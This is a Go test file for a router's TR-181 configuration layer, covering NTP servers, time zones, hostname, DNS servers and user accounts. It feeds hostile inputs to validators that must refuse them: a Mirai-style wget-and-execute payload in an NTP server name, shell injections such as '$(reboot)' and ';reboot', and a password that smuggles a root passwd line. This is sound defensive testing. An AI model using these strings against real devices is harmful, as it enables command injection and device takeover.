// Time, name servers and users: what the platform keeps in its configuration.

package tr181_test

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"testing/synctest"

	"gatehouse/datamodel"
	"gatehouse/platform"
)

// reload has a service take up what was committed, as core does after the
// session.
func (h *house) reload(service string) {
	h.Helper()
	if err := h.platform.Config.Reload(h.Context(), []string{service}); err != nil {
		h.Fatal(err)
	}
}

// commit sets parameters and returns what is left to do.
func (h *house) commit(prefix string, pairs ...string) datamodel.Result {
	h.Helper()
	tx, err := h.tree.Begin(h.Context())
	if err != nil {
		h.Fatal(err)
	}
	defer tx.Abort()
	var as []datamodel.Assignment
	for _, pair := range pairs {
		name, value, _ := strings.Cut(pair, "=")
		as = append(as, datamodel.Assignment{Path: prefix + name, Value: value})
	}
	if err := tx.Set(h.Context(), as...); err != nil {
		h.Fatal(err)
	}
	r, err := tx.Commit(h.Context())
	if err != nil {
		h.Fatal(err)
	}
	return r
}

const clock = "Device.Time."

func TestTimeServers(t *testing.T) {
	h := build(t)
	r := h.commit(clock, "NTPServer1=ntp1.example.net", "NTPServer3=192.0.2.123")
	if !r.Deferred || !slices.Equal(r.After, []datamodel.Action{{Name: "reload", Arg: "system"}}) {
		t.Errorf("left to do: %+v", r)
	}
	// By both names, at once, while the client has not heard of it yet.
	h.want(clock, "NTPServer1=ntp1.example.net", "NTPServer2=1.pool.ntp.example", "NTPServer3=192.0.2.123", "NTPServer4=",
		"Client.1.Servers=ntp1.example.net,1.pool.ntp.example,192.0.2.123", "Status=Synchronized")
	// A hole closes up.
	h.set(clock, "NTPServer2=")
	h.want(clock, "NTPServer1=ntp1.example.net", "NTPServer2=192.0.2.123", "NTPServer3=")
	// The list may be longer than five, and what is behind stays there.
	h.set(clock, "Client.1.Servers=a.example,b.example,c.example,d.example,e.example,f.example")
	h.set(clock, "NTPServer5=2001:db8::123")
	h.want(clock, "Client.1.Servers=a.example,b.example,c.example,d.example,2001:db8::123,f.example")
	h.set(clock, "NTPServer1=", "NTPServer2=", "NTPServer3=", "NTPServer4=", "NTPServer5=")
	h.want(clock, "Client.1.Servers=f.example", "NTPServer1=f.example")
	h.reload("system")
	h.set(clock, "Client.1.Servers=")
	h.want(clock, "NTPServer1=", "Client.1.Servers=", "ClientNumberOfEntries=1")

	blames(t, h.trySet(clock, "NTPServer1=a.example", "Client.1.Servers=b.example"), datamodel.ErrValue, clock+"Client.1.Servers")
	h.set(clock, "NTPServer1=a.example", "Client.1.Servers=a.example")
	if err := h.tryDelete(clock + "Client.1."); !errors.Is(err, datamodel.ErrDenied) {
		t.Errorf("deleting the one client: %v", err)
	}
}

// A name that is longer than NTPServer1 can show survives a change of another.
func TestTimeServerTooLongToShow(t *testing.T) {
	h := build(t)
	long := strings.Repeat("a", 60) + ".example.net"
	h.set(clock, "Client.1.Servers="+long)
	h.set(clock, "NTPServer2=b.example")
	h.want(clock, "Client.1.Servers="+long+",b.example", "NTPServer1="+long[:64])
}

// field.md, Mirai and CVE-2023-49897: a server's name ends on a command line
// somewhere. It is refused by both names, and nothing is written.
func TestHostileTimeServers(t *testing.T) {
	h := build(t)
	before := h.get(clock + "Client.1.Servers")
	for _, s := range []string{
		"`cd /tmp;wget http://l.ocalhost.host/2;chmod 777 2;./2`", "a;reboot", "$(reboot)", "a b", "-x", "a|b", "a\nb", "a'b", `a"b`,
		"fe80::1%`reboot`", "ntp..example", ".", "a&b", "../x", "pool.ntp.org iburst", "ä.example", strings.Repeat("a", 64),
	} {
		blames(t, h.trySet(clock, "NTPServer1="+s), datamodel.ErrValue, clock+"NTPServer1")
		if !strings.Contains(s, "\n") { // which a list takes for a separator's neighbour
			blames(t, h.trySet(clock, "Client.1.Servers="+s), datamodel.ErrValue, clock+"Client.1.Servers")
		}
	}
	if got := h.get(clock + "Client.1.Servers"); got != before {
		t.Errorf("the servers are %q", got)
	}
	for _, s := range []string{"ntp", "0.pool.ntp.org", "ntp.example.", "192.0.2.1", "2001:db8::1", "under_score.example", "1and1.example"} {
		if err := h.trySet(clock, "NTPServer1="+s); err != nil {
			t.Errorf("%q: %v", s, err)
		}
	}
}

func TestTimeZoneAndEnable(t *testing.T) {
	h := build(t)
	for _, bad := range []string{"", "Europe/Vienna", "CET", "CE-1", "CET-1CEST,M13.5.0,M10.5.0", ":/etc/passwd", "CET-1;reboot",
		"CET-1CEST,M3.5.0", "<+03>3x", "CET-25", "<+03-3", "CET-1CEST,M3.5.0,M10.5.0/168", "CET-1CEST,J0,J5", "CET-1CEST,M3.5.0,M10.5.0,"} {
		blames(t, h.trySet(clock, "LocalTimeZone="+bad), datamodel.ErrValue, clock+"LocalTimeZone")
	}
	for _, good := range []string{"UTC0", "EST5EDT", "<+0530>-5:30", "NZST-12NZDT,M9.5.0,M4.1.0/3", "<-02>2<-01>,M3.5.0/-1,M10.5.0/0",
		"IST-2IDT,M3.4.4/26,M10.5.0", "EST5EDT4,J60/2:00:00,300", "CET-1CEST,M3.5.0,M10.5.0/3"} {
		h.set(clock, "LocalTimeZone="+good)
		h.want(clock, "LocalTimeZone="+good)
	}
	h.set(clock, "LocalTimeZone=EST5EDT,M3.2.0,M11.1.0")
	h.reload("system")
	if s, err := h.platform.Clock.Time(t.Context()); err != nil || s.POSIX != "EST5EDT,M3.2.0,M11.1.0" {
		t.Errorf("the system has %+v, %v", s, err)
	}
	h.set(clock, "Enable=false")
	h.want(clock, "Enable=false", "Client.1.Enable=false", "Status=Synchronized")
	h.reload("system")
	h.want(clock, "Status=Disabled", "Client.1.Status=Disabled")
	blames(t, h.trySet(clock, "Enable=true", "Client.1.Enable=false"), datamodel.ErrValue, clock+"Client.1.Enable")
	h.set(clock, "Enable=true", "Client.1.Enable=true")
	h.want(clock, "Enable=true")
}

// TestHostName: it is read from where it is written, and is the system's after the
// reload; who keeps none does not let it be written.
func TestHostName(t *testing.T) {
	h := build(t)
	r := h.commit("Device.DeviceInfo.", "HostName=gw-1")
	if !slices.Equal(r.After, []datamodel.Action{{Name: "reload", Arg: "system"}}) {
		t.Errorf("left to do: %+v", r)
	}
	h.want("Device.DeviceInfo.", "HostName=gw-1")
	if name, err := h.platform.System.Hostname(t.Context()); err != nil || name == "gw-1" {
		t.Errorf("before the reload the system is called %q (%v)", name, err)
	}
	h.reload("system")
	if name, err := h.platform.System.Hostname(t.Context()); err != nil || name != "gw-1" {
		t.Errorf("the system is called %q (%v)", name, err)
	}
	h.router.SetHostname("somebody-else-did")
	h.want("Device.DeviceInfo.", "HostName=somebody-else-did")
	h.platform.Host = nil
	h.start()
	blames(t, h.trySet("Device.DeviceInfo.", "HostName=gw-2"), datamodel.ErrReadOnly, "Device.DeviceInfo.HostName")
}

const (
	client = "Device.DNS.Client.Server."
	relay  = "Device.DNS.Relay.Forwarding."
)

func TestNameServers(t *testing.T) {
	h := build(t)
	wan := h.find("Device.IP.Interface.", "Name", "eth0")
	for _, table := range []string{client, relay} {
		given := h.find(table, "DNSServer", "203.0.113.53")
		h.want(given, "Enable=true", "Type=DHCPv4", "Interface="+strings.TrimSuffix(wan, "."))
		blames(t, h.trySet(given, "Enable=false"), datamodel.ErrReadOnly, given+"Enable")
		blames(t, h.tryDelete(given), datamodel.ErrDenied, given)

		s := h.add(table)
		h.want(s, "Enable=false", "Status=Disabled", "DNSServer=", "Interface=", "Type=Static")
		blames(t, h.trySet(s, "Enable=true"), datamodel.ErrValue, s+"DNSServer")
		blames(t, h.trySet(s, "DNSServer=dns.example"), datamodel.ErrValue, s+"DNSServer")
		blames(t, h.trySet(s, "Enable=true", "DNSServer=203.0.113.53"), datamodel.ErrValue, s+"DNSServer")
		h.set(s, "DNSServer=2001:db8::35", "Interface="+wan, "Enable=true")
		h.want(s, "Enable=true", "DNSServer=2001:db8::35", "Interface="+strings.TrimSuffix(wan, "."))
		h.reload("dnsmasq")
		h.want(s, "Status=Enabled", "DNSServer=2001:db8::35")
		h.start()
		h.want(s, "Enable=true", "DNSServer=2001:db8::35")
		h.delete(s)
		h.reload("dnsmasq")
		if h.lookup(table, "DNSServer", "2001:db8::35") != "" {
			t.Error("it is still there")
		}
	}
	// The two tables are apart.
	s := h.add(client)
	h.set(s, "DNSServer=192.0.2.99", "Enable=true")
	h.want(s, "Status=Error") // the resolver has not heard of it
	if h.lookup(relay, "DNSServer", "192.0.2.99") != "" {
		t.Error("a server of the client is one of the relay's")
	}
}

func TestRelay(t *testing.T) {
	h := build(t)
	h.want("Device.DNS.", "Relay.Enable=true", "Relay.Status=Enabled", "Relay.ForwardNumberOfEntries=4", "Client.Enable=true")
	r := h.commit("Device.DNS.Relay.", "Enable=false")
	if !slices.Equal(r.After, []datamodel.Action{{Name: "reload", Arg: "dnsmasq"}}) {
		t.Errorf("left to do: %+v", r)
	}
	h.want("Device.DNS.Relay.", "Enable=false", "Status=Disabled")
	blames(t, h.trySet("Device.DNS.Client.", "Enable=false"), datamodel.ErrReadOnly, "Device.DNS.Client.Enable")
	h.platform.Naming = nil
	h.start()
	for name := range h.values("Device.DNS.") {
		if strings.HasPrefix(name, "Device.DNS.Relay.") {
			t.Errorf("%s, without a relay", name)
		}
	}
}

const accounts = "Device.Users.User."

func TestUsers(t *testing.T) {
	h := build(t)
	admin := h.find(accounts, "Username", "admin")
	h.want(admin, "Enable=true", "Password=", "Language=en")
	u := h.add(accounts)
	h.want(u, "Enable=false", "Username=", "Password=")
	blames(t, h.trySet(u, "Enable=true"), datamodel.ErrValue, u+"Username")
	h.set(u, "Enable=true", "Username=support", "Password=s3cret")
	h.want(u, "Enable=true", "Username=support", "Password=")
	if got := h.router.Password("support"); got != "s3cret" {
		t.Errorf("the password is %q", got)
	}
	// "" leaves a password, and so does a change of something else.
	h.set(u, "Password=", "Language=de")
	h.set(u, "Username=helpdesk")
	if got := h.router.Password("helpdesk"); got != "s3cret" {
		t.Errorf("the password is %q", got)
	}
	blames(t, h.trySet(u, "Username=admin"), datamodel.ErrValue, u+"Username")
	for _, bad := range []string{"0wn", "a:b", "a b", "../x", "-r", "a\nb", "röt", "$(id)"} {
		blames(t, h.trySet(u, "Username="+bad), datamodel.ErrValue, u+"Username")
	}
	blames(t, h.trySet(u, "Password=a\nroot::0:0"), datamodel.ErrValue, u+"Password")
	h.start()
	h.want(u, "Username=helpdesk", "Language=de")
	h.delete(u)
	if h.router.Password("helpdesk") != "" {
		t.Error("the account is still there")
	}
}

// An ACS that switches off or deletes the last account that can log in is
// mistaken: it may swap accounts, in one request.
func TestLastUser(t *testing.T) {
	h := build(t)
	admin := h.find(accounts, "Username", "admin")
	guest := h.find(accounts, "Username", "guest")
	blames(t, h.trySet(admin, "Enable=false"), datamodel.ErrValue, admin+"Enable")
	if err := h.tryDelete(admin); !errors.Is(err, datamodel.ErrValue) {
		t.Errorf("deleting the last one: %v", err)
	}
	h.want(admin, "Enable=true")
	h.set("Device.", admin[7:]+"Enable=false", guest[7:]+"Enable=true")
	h.delete(admin)
	if err := h.tryDelete(guest); err == nil {
		t.Error("now nobody can log in")
	}
}

// What the platform refuses lays its blame on a parameter, and nothing is
// half done.
func TestConfigurationRefused(t *testing.T) {
	synctest.Test(t, func(t *testing.T) { // lifetimes run by the clock
		h := build(t)
		before := h.values("Device.")
		h.router.FailConfig(&platform.ItemError{Item: 0, Err: platform.ErrUnsupported}, nil)
		blames(t, h.trySet(clock, "LocalTimeZone=UTC0"), datamodel.ErrDenied, clock+"LocalTimeZone")
		h.router.FailConfig(nil, errors.New("no space left on device"))
		if err := h.trySet("Device.", "Time.LocalTimeZone=UTC0", "DNS.Relay.Enable=false", accounts[7:]+"1.Language=fr"); err == nil {
			t.Error("it was done")
		}
		for name, v := range h.values("Device.") {
			if before[name] != v && !strings.HasSuffix(name, "Time") && !strings.Contains(name, "UpTime") {
				t.Errorf("%s was %q and is %q", name, before[name], v)
			}
		}
	})
}

// The time client does what it does: an ACS that says all of it is heard, and one
// that wants something else is told.
func TestTimeClientFields(t *testing.T) {
	h := build(t)
	c := "Device.Time.Client.1."
	h.set(c, "Mode=Unicast", "Port=123", "Version=4", "Interface=", "Servers=ntp.example.net")
	h.want(c, "Servers=ntp.example.net", "Port=123")
	lan := strings.TrimSuffix(h.find("Device.IP.Interface.", "Name", "br-lan"), ".")
	for _, set := range []string{"Mode=Broadcast", "Port=1123", "Version=3", "Interface=" + lan} {
		name, _, _ := strings.Cut(set, "=")
		if err := h.trySet(c, set); !errors.Is(err, datamodel.ErrValue) || !strings.Contains(err.Error(), c+name) {
			t.Errorf("%s: %v", set, err)
		}
	}
}
